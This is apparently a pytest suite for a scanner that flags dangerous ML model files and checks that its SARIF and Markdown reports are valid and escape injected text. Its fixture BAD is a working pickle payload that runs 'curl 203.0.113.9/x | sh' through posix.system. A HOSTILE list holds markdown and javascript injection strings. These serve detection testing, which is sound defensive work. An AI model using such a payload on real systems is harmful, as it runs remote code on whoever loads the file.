"""What scan prints: text that teaches, JSON, SARIF that its schema and code scanning take, harmless Markdown."""

import io
import json
import re
import zipfile
from pathlib import Path

import click
import jsonschema
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from weighbridge.cli.markdown import MAX_FINDINGS, MAX_LENGTH, code, markdown
from weighbridge.cli.outcome import Failed, Row
from weighbridge.cli.rule import rendered
from weighbridge.cli.sarif import MAX_RESULTS, sarif
from weighbridge.core.digest import Digest
from weighbridge.core.errors import Unreachable
from weighbridge.core.finding import Coverage, Finding, Location, Report, Ruleset, Severity, Verdict
from weighbridge.scanner import RULES

SCHEMA = json.loads((Path(__file__).parent / "schemas" / "sarif-2.1.0-rtm.5.json").read_text("utf-8"))
BAD = b'cposix\nsystem\n(S"curl 203.0.113.9/x | sh"\ntR.'


def archive(**members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for name, content in members.items():
            made.writestr(name.replace("__", "/"), content)
    return out.getvalue()


def models(folder):
    """Lay out a clean model, one with a payload two archives deep and a name to trip over, and one unread."""
    clean = folder / "clean"
    clean.mkdir()
    (clean / "config.json").write_text('{"model_type": "bert"}')
    deep = folder / "deep model"
    (deep / "sub").mkdir(parents=True)
    (deep / "sub" / "a#b ü.zip").write_bytes(archive(inner=archive(data__x=BAD)))
    unread = folder / "unread"
    unread.mkdir()
    (unread / "model.xyz").write_bytes(bytes(range(128, 256)) * 3)
    return clean, deep, unread


def valid(text):
    log = json.loads(text)
    kind = jsonschema.validators.validator_for(SCHEMA)
    errors = [
        f"{list(e.absolute_path)}: {e.message}"
        for e in kind(SCHEMA, format_checker=jsonschema.FormatChecker()).iter_errors(log)
    ]
    assert errors == []
    (run,) = log["runs"]
    return run


def test_the_schema_notices_what_is_wrong():
    kind = jsonschema.validators.validator_for(SCHEMA)
    for wrong in ({"version": "2.1.0"}, {"version": "2.0.0", "runs": []}, {"version": "2.1.0", "runs": [{}]}):
        assert not kind(SCHEMA).is_valid(wrong)


def test_a_finding_teaches(call, tmp_path):
    (tmp_path / "weights.zip").write_bytes(archive(a__data=BAD))
    code_, output, _ = call("scan", tmp_path / "weights.zip")
    assert code_ == 1
    lines = output.splitlines()
    assert lines[0] == "error[pickle-call]: loading this file would run posix.system"
    assert lines[1] == "  --> weights.zip ! a/data : byte 43"
    assert any(line.startswith("   |  ") and "REDUCE" in line for line in lines)
    assert any(line.startswith("   = why: ") for line in lines)
    assert any(line.startswith("   = help: ") for line in lines)
    assert re.fullmatch(
        r"weights\.zip: 1 file, (\d+) B read of \1 B \(100 %\), 1 error, 0 warnings, \d+\.\d s", lines[-2]
    )


def test_several_models_end_with_a_total(call, tmp_path):
    clean, deep, unread = models(tmp_path)
    code_, output, _ = call("scan", clean, deep, unread)
    assert code_ == 1
    assert re.fullmatch(r"3 models, 3 files, \d+ B, 2 blocked, \d+\.\d s", output.splitlines()[-1])


def test_sarif_is_what_its_schema_says(call, tmp_path, monkeypatch):
    clean, deep, unread = models(tmp_path)
    monkeypatch.chdir(tmp_path)
    code_, output, _ = call("scan", clean, deep, unread, "--format", "sarif")
    assert code_ == 1
    run = valid(output)
    (call_,) = [row for row in run["results"] if row["ruleId"] == "pickle-call"]
    physical = call_["locations"][0]["physicalLocation"]
    assert physical["artifactLocation"]["uri"] == "deep%20model/sub/a%23b%20%C3%BC.zip"
    assert physical["region"] == {"startLine": 1}
    exact = call_["relatedLocations"][0]["physicalLocation"]
    assert exact["region"] == {"byteOffset": 43}
    chain = []
    index = exact["artifactLocation"]["index"]
    while index is not None:
        artifact = run["artifacts"][index]
        chain.append(artifact["location"]["uri"])
        index = artifact.get("parentIndex")
    assert chain == ["data/x", "inner", "deep%20model/sub/a%23b%20%C3%BC.zip"]
    assert run["artifacts"][physical["artifactLocation"]["index"]]["hashes"]["sha-256"]


def test_sarif_says_what_code_scanning_asks_for(call, tmp_path, monkeypatch):
    clean, deep, unread = models(tmp_path)
    monkeypatch.chdir(tmp_path)
    run = valid(call("scan", clean, deep, unread, "--format", "sarif")[1])
    assert run["automationDetails"]["id"].endswith("/")
    rules = run["tool"]["driver"]["rules"]
    for result in run["results"]:
        assert rules[result["ruleIndex"]]["id"] == result["ruleId"]
        assert result["locations"]
        assert not result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].startswith("/")
        assert re.fullmatch("[0-9a-f]{32}", result["partialFingerprints"]["weighbridgeFingerprint/v1"])
    for rule in rules:
        assert rule["help"]["markdown"].startswith(f"# {rule['id']}")
        assert 0.0 <= float(rule["properties"]["security-severity"]) <= 10.0
    (invocation,) = run["invocations"]
    assert invocation["exitCode"] == 1
    assert invocation["executionSuccessful"] is False, "something was not read"
    assert {row["descriptor"]["id"] for row in invocation["toolExecutionNotifications"]} >= {"unread-format"}


def test_sarif_of_what_is_clean_has_succeeded(call, tmp_path):
    clean, _, _ = models(tmp_path)
    code_, output, _ = call("scan", clean, "--format", "sarif")
    run = valid(output)
    assert code_ == 0
    assert run["results"] == []
    assert run["invocations"][0]["executionSuccessful"] is True


def test_sarif_is_written_even_when_the_model_is_not_there(call, tmp_path):
    code_, output, error = call("scan", "hf://nobody/nothing", "--offline", "--format", "sarif")
    assert code_ == 3
    run = valid(output)
    assert run["invocations"][0]["executionSuccessful"] is False
    assert "offline" in error


def test_sarif_of_files_elsewhere_names_them_in_full(call, tmp_path, monkeypatch):
    _, deep, _ = models(tmp_path)
    (tmp_path / "other").mkdir()
    monkeypatch.chdir(tmp_path / "other")
    for typed in (deep, "../deep model", "./../other/../deep model"):
        run = valid(call("scan", typed, "--format", "sarif")[1])
        uri = run["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
        assert uri == (deep / "sub" / "a#b ü.zip").as_uri()


def row(findings, *, model="./m", coverage=None, **more):
    rules = Ruleset("1", Digest.of(b"rules"))
    manifest = Digest("wb1", "0" * 64)
    report = Report(model, manifest, tuple(findings), coverage or Coverage(9, 9), rules, {"a.bin": "pickle"})
    return Row(model, report, {}, **more)


def finding(message="seen", *, path="a.bin", verdict=Verdict.BROKEN, subject="", members=()):
    return Finding("pickle-call", verdict, Severity.ERROR, Location(path, members), message, subject=subject)


def test_more_results_than_a_service_takes_are_cut_and_said_so():
    found = [finding(subject=str(number)) for number in range(MAX_RESULTS + 5)]
    worst = finding("worst", verdict=Verdict.DANGEROUS)
    log = sarif([row([*found, worst])], [], exit_code=1, here=Path("/"))
    run = log["runs"][0]
    assert len(run["results"]) == MAX_RESULTS
    assert run["results"][0]["message"]["text"] == "Worst."
    assert "6 more findings" in run["invocations"][0]["toolExecutionNotifications"][0]["message"]["text"]


def test_nothing_in_a_message_is_a_link():
    found = finding("see [here](http://203.0.113.9/) \\", path="a[b].bin", members=("[c](d)",))
    log = sarif([row([found])], [Failed("[x](y)", Unreachable("no [z](w)"))], exit_code=1, here=Path("/"))
    run = log["runs"][0]
    result = run["results"][0]
    texts = [result["message"]["text"], result["relatedLocations"][0]["message"]["text"]]
    texts += [entry["message"]["text"] for entry in run["invocations"][0]["toolExecutionNotifications"]]
    assert texts[0] == "See \\[here\\](http://203.0.113.9/) \\\\."
    for text in texts:
        assert not re.search(r"(?<!\\)[\[\]]", text), text
    help_ = run["tool"]["driver"]["rules"][0]["help"]
    assert "](" not in help_["markdown"] + help_["text"]


NAMES = st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=12)
FINDINGS = st.builds(
    Finding,
    st.sampled_from(sorted(RULES)),
    st.sampled_from(Verdict),
    st.sampled_from(Severity),
    st.builds(Location, NAMES, st.lists(NAMES, max_size=3).map(tuple), st.none() | st.integers(0, 2**53)),
    st.text(max_size=40),
    why=st.text(max_size=20),
    subject=st.text(max_size=10),
    evidence=st.lists(st.text(max_size=20), max_size=2).map(tuple),
)


@settings(max_examples=60)
@given(st.lists(FINDINGS, max_size=6), st.sampled_from([None, "/x", "/x/y z", "/"]), NAMES)
def test_whatever_is_found_gives_sarif_of_the_schema(findings, folder, name):
    log = sarif([row(findings, model=name, folder=folder)], [], exit_code=1, here=Path("/x"))
    run = valid(json.dumps(log))
    assert len(run["results"]) == len(findings)
    for result in run["results"]:
        index = result["relatedLocations"][0]["physicalLocation"]["artifactLocation"]["index"]
        depth = 0
        while "parentIndex" in run["artifacts"][index]:
            index, depth = run["artifacts"][index]["parentIndex"], depth + 1
        assert index == result["locations"][0]["physicalLocation"]["artifactLocation"]["index"]
        logical = result["locations"][0].get("logicalLocations")
        assert bool(logical) == bool(depth)


def test_incomplete_coverage_without_a_finding_is_a_failed_run():
    log = sarif([row([], coverage=Coverage(9, 3))], [], exit_code=3, here=Path("/"))
    assert log["runs"][0]["invocations"][0]["executionSuccessful"] is False


HOSTILE = [
    "`` `code` @everyone",
    "](javascript:alert(1))",
    "<img src=x>",
    "a|b\n# title\u202e",
    "`",
    "@org/team",
    "",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_of_hostile_names_stays_in_code(text):
    span = code(text)
    fence = re.match("`+", span)[0]
    body = span[len(fence) : -len(fence)]
    assert span.endswith(fence)
    assert fence not in re.findall("`+", body)
    assert "\n" not in span
    assert "\u202e" not in span


def test_markdown_rendered_holds_nothing_active():
    markdown_it = pytest.importorskip("markdown_it")
    rows = [row([finding(text, path=text or "x", members=(text,))], model=text) for text in HOSTILE]
    html = markdown_it.MarkdownIt("gfm-like", {"linkify": False}).render(markdown(rows, []))
    outside = re.sub(r"<code>.*?</code>", "", html, flags=re.DOTALL)
    assert "<img" not in html
    assert "href" not in html
    assert "@" not in outside
    assert "title" not in outside


def test_markdown_ends_where_a_comment_must():
    found = [finding("m" * 900, path=f"{number}.bin") for number in range(MAX_FINDINGS + 7)]
    text = markdown([row(found, model=str(number)) for number in range(100)], [])
    assert len(text) <= 65_536
    assert len(text) > MAX_LENGTH // 2
    assert "more models are not shown here" in text
    assert "7 more findings are not shown here" in text


def test_markdown_says_what_was_not_scanned():
    text = markdown([], [Failed("hf://a/b", Unreachable("no answer"))])
    assert "not scanned" in text


def test_rule_says_verdicts_and_prints_pages_as_asked(call):
    listed = call("rule")[1]
    assert re.search(r"^pickle-call +dangerous +\S", listed, re.MULTILINE)
    assert "| pickle-call | dangerous |" in call("rule", "--format", "markdown")[1]
    page = call("rule", "pickle-call", "--format", "markdown")[1]
    assert page.startswith("# pickle-call\n")
    item = json.loads(call("rule", "pickle-call", "--format", "json")[1])["rules"][0]
    assert item["verdict"] == "dangerous"
    assert item["text"] == page.rstrip("\n")


def test_a_page_on_a_terminal_is_shown_and_not_its_source():
    page = "# pickle-call\n\nOne [link](x.md) " + "word " * 60 + "\n\n- Reported: `x`"
    shown = rendered(page)
    assert click.unstyle(shown).startswith("pickle-call\n\nOne link word")
    assert "\x1b[1m" in shown.splitlines()[0]
    assert max(len(line) for line in shown.splitlines()) <= 110
    assert "# " not in shown


def test_output_to_a_file(call, tmp_path):
    clean, _, _ = models(tmp_path)
    for form in ("text", "json", "jsonl", "sarif", "markdown"):
        target = tmp_path / f"report.{form}"
        assert call("scan", clean, "--format", form, "--output", target)[:2] == (0, "")
        assert target.stat().st_size
